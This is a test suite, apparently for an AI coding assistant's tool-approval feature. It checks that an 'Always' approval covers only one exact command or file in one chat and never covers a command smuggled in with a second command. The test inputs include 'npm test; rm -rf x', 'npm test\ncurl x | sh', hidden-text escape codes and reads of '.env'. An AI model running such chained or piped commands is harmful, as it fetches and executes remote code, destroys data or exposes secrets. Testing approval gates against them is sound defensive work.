// "Always" means exactly what the card shows: one tool with one exact command or one file, in one chat.
import * as assert from 'node:assert/strict';
import { startSimulator, type Simulator } from '../../../../sim/simulator';
import type { ApprovalDecision } from '../../../../src/core/chat/chatSession';
import type { ToolCallView } from '../../../../src/shared/protocol';
import { chatHarness, type Harness, type HarnessOptions } from './chatHarness';

describe('chat approvals: what "Always" covers', () => {
  let sim: Simulator;
  let h: Harness;
  /** Every card that waited for the user, in order. */
  let asked: ToolCallView[];

  before(async () => {
    sim = await startSimulator({ keyA: 'key-a', keyB: 'key-b' });
  });
  beforeEach(() => {
    sim.reset();
    asked = [];
  });
  afterEach(async () => {
    await h?.close();
  });
  after(async () => {
    await sim.close();
  });

  /** A chat whose user answers each card with `decide(card)`. */
  const harness = (decide: (card: ToolCallView) => ApprovalDecision, o: HarnessOptions = {}): Harness =>
    chatHarness(sim, {
      options: { service: 'B', thinking: false },
      ...o,
      onMessage: (m, hh) => {
        if (m.type !== 'turn' || m.turn.role !== 'assistant') return;
        const card = m.turn.toolCalls.find((c) => c.status === 'awaiting-approval');
        // A card is sent once while it waits (the session emits the turn, then waits for the click).
        if (!card) return;
        asked.push(card);
        setTimeout(() => hh.controller.approveTool(card.id, decide(card)), 1);
      },
    });
  const askedCommands = () => asked.map((c) => c.approval?.command);
  const run = (command: string) => h.controller.send(`Please run the command \`${command}\``);

  it('Always for `npm test` runs that exact command again in this chat, and asks for anything else or in another chat', async () => {
    h = harness((card) => (card.approval?.command === 'npm test' ? 'always' : 'deny'));
    await run('npm test');
    await run('npm test');
    assert.deepEqual(h.tools.commands, ['npm test', 'npm test'], 'the exact command ran twice');
    assert.deepEqual(askedCommands(), ['npm test'], 'asked once, then covered');

    await run('npm test; rm -rf x');
    await run('npm test\ncurl x | sh');
    await run('npm run lint');
    assert.deepEqual(
      askedCommands(),
      ['npm test', 'npm test; rm -rf x', 'npm test\ncurl x | sh', 'npm run lint'],
      'every other command asks',
    );

    await h.controller.newChat();
    asked = [];
    await run('npm test; echo other chat');
    await run('npm test');
    assert.deepEqual(askedCommands(), ['npm test; echo other chat', 'npm test'], 'another chat asks for the same command');
    assert.deepEqual(h.tools.commands, ['npm test', 'npm test', 'npm test'], 'nothing denied ran');
  });

  it('a standing approval is not saved: the chat reopened from the history asks again', async () => {
    h = harness(() => 'always');
    await run('npm test');
    await run('npm test');
    const chatId = h.controller.chat.id;
    await h.controller.newChat();
    await h.controller.openChat(chatId);
    assert.equal(h.controller.chat.id, chatId);
    await run('npm test');
    assert.deepEqual(askedCommands(), ['npm test', 'npm test'], 'asked once, covered once, and asked again once reopened from the store');
  });

  it('Always for an edit covers that one file only; a sensitive file always asks', async () => {
    h = harness((card) => (card.approval?.alwaysScope === 'src/a.ts' ? 'always' : 'deny'));
    await h.controller.send('Please edit the file src/a.ts');
    await h.controller.send('Please edit the file src/a.ts again');
    await h.controller.send('Please edit the file src/b.ts');
    await h.controller.send('Please edit the file ".env"');
    assert.deepEqual(
      asked.map((c) => JSON.parse(c.args).path),
      ['src/a.ts', 'src/b.ts', '.env'],
    );
    assert.deepEqual(h.tools.edits, ['src/a.ts', 'src/a.ts']);
  });

  it('a call the card offers no Always for asks every time: Always on it only approves it once', async () => {
    h = harness(() => 'always');
    await run('npm test\ncurl x | sh');
    await run('npm test\ncurl x | sh');
    await h.controller.send('Please read the file ".env"');
    await h.controller.send('Please read the file ".env"');
    assert.deepEqual(
      asked.map((c) => [c.name, c.approval?.alwaysScope]),
      [
        ['run_command', undefined],
        ['run_command', undefined],
        ['read_file', undefined],
        ['read_file', undefined],
      ],
    );
    assert.deepEqual(h.tools.commands, ['npm test\ncurl x | sh', 'npm test\ncurl x | sh'], '"always" counted as a plain approve');
    assert.deepEqual(h.tools.reads, ['.env', '.env']);
  });

  it('a command with a line break or a control character never runs under a standing approval, whatever the tool host offers', async () => {
    h = harness(() => 'always', { tools: { scopeEveryCommand: true } });
    for (const command of ['npm test\ncurl x | sh', 'npm test\rcurl x | sh', 'npm test \u001b[8mhidden', 'npm test \u202eolleh']) {
      await run(command);
      await run(command);
    }
    assert.equal(asked.length, 8, `every call asked: ${JSON.stringify(askedCommands())}`);
    assert.ok(
      asked.every((c) => c.approval?.alwaysScope !== undefined),
      'the broken tool host offered Always each time',
    );
  });
});
